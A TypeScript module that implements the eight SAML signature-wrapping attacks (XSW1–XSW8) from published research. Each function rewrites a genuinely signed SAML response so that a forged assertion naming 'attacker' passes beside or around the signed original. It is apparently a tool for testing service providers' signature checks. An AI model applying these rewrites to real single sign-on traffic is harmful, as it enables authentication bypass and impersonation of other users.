/**
 * Signature wrapping, the eight forms (Somorovsky et al., "On Breaking SAML", USENIX Security 2012), on an answer that was
 * really signed. What the attacker wants to be believed is about `attacker`; what was signed stays in the message, whole.
 */
type Rewrite = (signed: string) => string

const RESPONSE = /^<samlp:Response[^>]*>/
const ASSERTION = /<saml:Assertion[\s\S]*<\/saml:Assertion>/
const SIGNATURE = /<ds:Signature[\s\S]*?<\/ds:Signature>/

const one = (pattern: RegExp, text: string): string => {
  const found = pattern.exec(text)?.[0]
  if (found === undefined) throw new Error(`nothing like ${pattern}`)
  return found
}
const assertionOf = (text: string) => one(ASSERTION, text)
/** Its own, right after its Issuer. */
const ownSignature = (element: string): string =>
  one(/^<[^>]*><saml:Issuer>[^<]*<\/saml:Issuer>(<ds:Signature[\s\S]*?<\/ds:Signature>)?/, element).match(
    SIGNATURE,
  )?.[0] ?? ''
const without = (text: string, part: string) => (part === '' ? text : text.replace(part, () => ''))
const inside = (element: string, more: string) => element.replace(/<\/[^<>]*>$/, (end) => more + end)
const renamed = (element: string, id: string) => element.replace(/ ID="[^"]*"/, ` ID="${id}"`)
const evil = (text: string) =>
  text
    .replace(/(<saml:NameID[^>]*>)[^<]*/, '$1attacker')
    .replaceAll('ann@partner.example', 'attacker@partner.example')
    .replace(/(Name="uid"><saml:AttributeValue>)[^<]*/, '$1attacker')
const withIn = (signature: string, more: string) =>
  signature === ''
    ? `<samlp:Extensions>${more}</samlp:Extensions>`
    : inside(signature, `<ds:Object xmlns:ds="http://www.w3.org/2000/09/xmldsig#">${more}</ds:Object>`)

export const WRAPPINGS: Readonly<Record<string, Rewrite>> = {
  'XSW1: the signed Response in the signature of another': (signed) => {
    const signature = ownSignature(signed)
    const original = without(signed, signature)
    const forged = renamed(evil(without(signed, signature)), '_forged')
    return forged.replace(/<\/saml:Issuer>/, (end) => end + withIn(signature, original))
  },
  'XSW2: the signed Response beside its signature in another': (signed) => {
    const signature = ownSignature(signed)
    const original = without(signed, signature)
    const forged = renamed(evil(original), '_forged')
    return forged.replace(/<\/saml:Issuer>/, (end) => end + original + signature)
  },
  'XSW3: a forged Assertion before the signed one': (signed) => {
    const assertion = assertionOf(signed)
    const forged = renamed(evil(without(assertion, ownSignature(assertion))), '_forged')
    return signed.replace(assertion, () => forged + assertion)
  },
  'XSW4: the signed Assertion inside a forged one': (signed) => {
    const assertion = assertionOf(signed)
    const forged = renamed(evil(without(assertion, ownSignature(assertion))), '_forged')
    return signed.replace(assertion, () => inside(forged, assertion))
  },
  'XSW5: the signature in a forged Assertion, the signed one at the end': (signed) => {
    const assertion = assertionOf(signed)
    const bare = without(assertion, ownSignature(assertion))
    return inside(
      signed.replace(assertion, () => renamed(evil(assertion), '_forged')),
      bare,
    )
  },
  'XSW6: the signed Assertion in the signature of a forged one': (signed) => {
    const assertion = assertionOf(signed)
    const signature = ownSignature(assertion)
    const forged = renamed(evil(assertion), '_forged')
    return signed.replace(assertion, () =>
      signature === ''
        ? inside(forged, assertion)
        : forged.replace(signature, () => withIn(signature, without(assertion, signature))),
    )
  },
  'XSW7: a forged Assertion in Extensions': (signed) => {
    const assertion = assertionOf(signed)
    // with the same id as the signed one, which a lookup by id may find first
    const forged = evil(without(assertion, ownSignature(assertion)))
    return signed.replace(RESPONSE, (open) => `${open}<samlp:Extensions>${forged}</samlp:Extensions>`)
  },
  'XSW8: the signed Assertion in an Object of the signature of a forged one': (signed) => {
    const assertion = assertionOf(signed)
    const signature = ownSignature(assertion)
    const original = without(assertion, signature)
    // the forged one keeps the id
    return signed.replace(assertion, () =>
      signature === ''
        ? `${evil(assertion)}<samlp:Extensions>${assertion}</samlp:Extensions>`
        : evil(assertion).replace(signature, () => withIn(signature, original)),
    )
  },
}
